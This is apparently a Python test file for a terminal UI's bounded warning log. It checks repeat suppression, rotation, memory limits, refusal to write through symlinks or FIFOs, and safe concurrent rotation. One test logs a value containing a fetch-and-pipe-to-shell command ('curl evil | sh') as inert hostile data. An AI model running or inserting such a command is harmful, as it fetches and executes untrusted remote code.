"""``var/logs/tui.log``: why the TUI could not fetch or call, on record, and bounded."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from tui.problem_log import _KEPT, MAX_BYTES, MAX_TEXT, REPEAT_S, ProblemLog


def test_a_warning_repeated_at_every_poll_is_written_once_a_minute_with_its_count(
    tmp_path: Path,
) -> None:
    now = [0.0]
    log = ProblemLog(tmp_path, clock=lambda: now[0])
    for _ in range(3):
        log.warning("alarm poll failed: review refused (401)")
        now[0] += 1.0
    log.warning("ticket fetch failed:\nsecond \x1b[2Jline")  # another text is not held back
    now[0] += REPEAT_S
    log.warning("alarm poll failed: review refused (401)")
    log.close()
    lines = (tmp_path / "logs" / "tui.log").read_text().splitlines()
    assert len(lines) == 3, lines
    assert lines[0].endswith("alarm poll failed: review refused (401)")
    assert lines[1].endswith("ticket fetch failed: second \\x1b[2Jline")  # one line, inert
    assert lines[2].endswith("(401) (and 2 more times in the last minute)")
    assert "tui[" in lines[0]


def test_the_log_is_bounded(tmp_path: Path) -> None:
    log = ProblemLog(tmp_path)
    for i in range(3 * MAX_BYTES // 400):
        log.warning(f"ticket T-{i:05d} named on the bus: " + "x" * 360)
    log.close()
    files = sorted(p.name for p in (tmp_path / "logs").iterdir())
    assert files == ["tui.log", "tui.log.1"]
    assert all((tmp_path / "logs" / f).stat().st_size <= MAX_BYTES for f in files)


def test_without_a_runtime_directory_nothing_is_written(tmp_path: Path) -> None:
    log = ProblemLog(None)
    log.warning("whoami failed")
    log.close()
    assert list(tmp_path.iterdir()) == []


def test_many_huge_distinct_warnings_keep_only_what_is_written(tmp_path: Path) -> None:
    """A service's error detail can quote a hostile answer (a 1 MB field name): the repeat
    limit remembers the text written, not the megabytes (256 of them were 268 MB)."""
    log = ProblemLog(tmp_path)
    for i in range(2 * _KEPT):
        log.warning(f"alarm poll failed: {i:04d} " + "k" * (1 << 20))
    held = sum(len(text) for text in log._last)
    log.close()
    assert held <= _KEPT * MAX_TEXT


def test_a_tui_log_that_is_not_a_file_is_not_written(tmp_path: Path) -> None:
    """Whoever can write ``var/logs`` must not make the TUI append to a file of their choice
    (a symbolic link) nor hang it at its start (a FIFO nobody reads)."""
    target = tmp_path / "bashrc"
    target.write_text("# mine\n")
    (tmp_path / "link" / "logs").mkdir(parents=True)
    (tmp_path / "link" / "logs" / "tui.log").symlink_to(target)
    log = ProblemLog(tmp_path / "link")
    log.warning("ticket fetch failed: x; curl evil | sh")
    log.close()
    assert target.read_text() == "# mine\n"

    (tmp_path / "fifo" / "logs").mkdir(parents=True)
    fifo = tmp_path / "fifo" / "logs" / "tui.log"
    os.mkfifo(fifo)
    done = threading.Event()

    def start() -> None:
        ProblemLog(tmp_path / "fifo").close()
        done.set()

    threading.Thread(target=start, daemon=True).start()
    try:
        assert done.wait(10.0), "ProblemLog blocked opening a FIFO"
    finally:
        if not done.is_set():  # let the blocked open return
            os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK))


def test_a_write_that_fails_is_counted_not_printed_over_the_screen(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """Textual draws on stderr: logging's default error report (a traceback there) would
    scribble over the operator's screen. Here the file's descriptor is gone under it (as a
    full disk or a yanked mount fails a write)."""
    log = ProblemLog(tmp_path)
    log.warning("first")
    assert log._log is not None
    handler = log._log.handlers[0]
    os.close(handler.stream.fileno())  # type: ignore[attr-defined]
    log.warning("second")
    log.close()
    assert capfd.readouterr().err == ""
    assert handler.failed > 0  # type: ignore[attr-defined]


WRITER = """
import sys, time
from pathlib import Path
from tui.problem_log import ProblemLog
var, who, n = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
log = ProblemLog(var, max_bytes=4096)
for i in range(n):
    log.warning(f"{who} line {i:06d}")
(var / f"done-{who}").touch()
while not all((var / f"done-{w}").exists() for w in "AB"):
    time.sleep(0.005)
log.warning(f"{who} last")
handler = log._log.handlers[0]
print(handler.failed - getattr(handler, "busy", 0))  # failures but for a lock held past LOCK_WAIT_S
log.close()
"""


def test_two_tuis_rotating_one_log_lose_no_recent_line(tmp_path: Path) -> None:
    """Two TUIs on one host share ``tui.log``. One's rotation used to leave the other writing
    into ``tui.log.1`` or into a file already deleted, and two rotating at once removed each
    other's file: a TUI's latest line was gone from the record and writes failed."""
    import subprocess
    import sys

    procs = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, str(tmp_path), who, "3000"],
            stdout=subprocess.PIPE,
            text=True,
        )
        for who in "AB"
    ]
    failed = [int(p.communicate(timeout=120)[0]) for p in procs]
    logs = tmp_path / "logs"
    text = "".join(f.read_text() for f in sorted(logs.glob("tui.log*")))
    assert failed == [0, 0], "no write failed (a lock held too long on a loaded host aside)"
    assert "A last" in text and "B last" in text, "both TUIs' latest lines are on record"
    assert sorted(f.name for f in logs.iterdir()) == ["tui.log", "tui.log.1"]
    assert all(f.stat().st_size <= 4096 for f in logs.iterdir())
